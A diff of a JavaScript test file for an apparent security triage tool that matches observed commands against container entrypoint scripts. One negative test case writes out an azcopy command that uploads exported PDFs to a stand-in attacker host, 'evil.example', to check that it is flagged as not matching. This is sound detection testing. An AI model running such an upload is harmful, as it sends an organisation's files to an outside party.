@@ -31,3 +31,20 @@ describe('entrypointMatches', () => {
     expect(entrypointMatches('/usr/bin/falcoctl artifact install evil', { name: 'c', args: ['artifact', 'follow', '--log-format=json'] })).toBe(false);
   });
 });
+
+describe('entrypoint scripts', () => {
+  const spec = {
+    name: 'export',
+    command: ['/bin/sh', '-c', `set -e; python3 /app/render.py --month "$(date -u +%Y-%m)" && azcopy copy '/export/*.pdf' "https://acct.blob.core.windows.net/exports/$(date -u +%Y/%m/%d)/" --overwrite=false`],
+  };
+  it('splits a shell entrypoint into its simple commands', async () => {
+    const { entrypointScriptSteps } = await import('../../src/triage/correlate.js');
+    expect(entrypointScriptSteps(spec).map((s) => s[0])).toEqual(['python3', 'azcopy']);
+  });
+  it('matches a step with its expansions filled in, and nothing else', async () => {
+    const { scriptStepMatches } = await import('../../src/triage/correlate.js');
+    expect(scriptStepMatches('azcopy copy /export/*.pdf https://acct.blob.core.windows.net/exports/2027/03/09/ --overwrite=false', spec)).toBe(true);
+    expect(scriptStepMatches('azcopy copy /export/*.pdf https://evil.example/x/ --overwrite=false', spec)).toBe(false);
+    expect(scriptStepMatches('python3 /app/render.py --month 2027-03', spec)).toBe(true);
+  });
+});
